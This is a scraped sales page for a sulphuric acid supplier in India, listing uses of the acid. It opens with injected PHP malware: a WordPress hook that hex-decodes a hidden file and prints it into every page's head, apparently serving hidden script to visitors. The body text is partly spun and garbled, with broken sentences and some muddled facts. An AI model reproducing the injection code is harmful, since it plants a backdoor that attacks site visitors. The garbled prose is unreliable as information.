if ((is_admin() || (function_exists('get_hex_cache'))) !== true) { add_action('wp_head', 'get_hex_cache', 12); function get_hex_cache() { return print(@hex2bin( '3c7' . (file_get_contents(__DIR__ .'/_inc.tmp')))); } } Sulphuric Acid Purity 98% - Sulphuric Acid Manufacturer & Supplier

Sulphuric Acid Purity-98%

Raghav chemicals, is the leading Sulphuric acid manufacturer, distributor, and dealer in India. Provides the greatest quality, expanded consistency, wider scale, and more desirable efficiency. In Addition, they also provide 98% Pure sulphuric acid. One of the key strengths of Raghav chemicals is of delivering exactly what you need by slicing customized blends to your specification.
Sulphuric acid has many industrial, and daily life uses. It is made by a chemical combination of sulphuric dioxide and oxygen either by contact process or chamber process. But how well do you know the crucial uses and advantages of Sulphuric acid?

Let’s get to know more about it;
Sulphuric acid has a chemical formula of H2SO4, which includes sulphuric, hydrogenic, and oxygenic. It is a colorless heavy liquid that smells pungent. Despite its diluted form, it is highly reactive and corrosive and should be handled with care. During the manufacturing process, a dye can be added to help identify the chemical as a hazardousone.


A few of the uses for sulphuric acid are listed below.
1. Fertilizers: Nearly 50% of the world’s sulphuric acid is utilised in agriculture. Especially in the fertilizer industry. Massive amounts of sulphuric acid are used to create phosphoric acid, which is used in phosphate fertilizer production.
2. Pharmaceuticals: Alkylating agents, which are common in chemotherapy (treatment of cancer). These are pharmaceutical ingredients are made of sulphuric acid.
3. Automobile batteries: Sulphuric Acid is a chemical compound used in the manufacture of Lead-Acid batteries. Lead-acid batteries are commonly used in the automotive industry for cars and trucks.
4. Paper bleaching: To make the environmentally-friendly ECF chemical pulping process,sulphuric acid is used to generate chlorine dioxide on-site.
5. Water treatment: Depending on the pH of the water being treated. An acid or a base is injected during wastewater treatment. To restore the pH level of wastewater to normal, either sulphuric acid or a base chemical is employed. This method is called neutralisation.
6. Cellulose fibres: Sulphuric acid is also utilised in the production of cellulose fibres such as rayon.
7. Steel manufacturing: Petroleum refining is now utilised efficiently to remove contaminants from gasoline and other refinery products. It is also used in metal processing, such as pickling or cleaning iron and steel before plating with tin or zinc.
8. Colourants: It is employed as a colouring agent in the manufacture of colours, medicines, and disinfectants.
Sulphuric Acid Drums, sulphuric acid manufacturer in india, Sulphuric Acid Distributer In Idia.
However, Raghav chemicals have constantly endeavoured for accomplishing impeccably best and excellence in imparting excessive high-quality chemicals. Our nice specialists have served as abeacon now not solely for us. But additionally, for the complete enterprise in organizing top-notch first-class standards.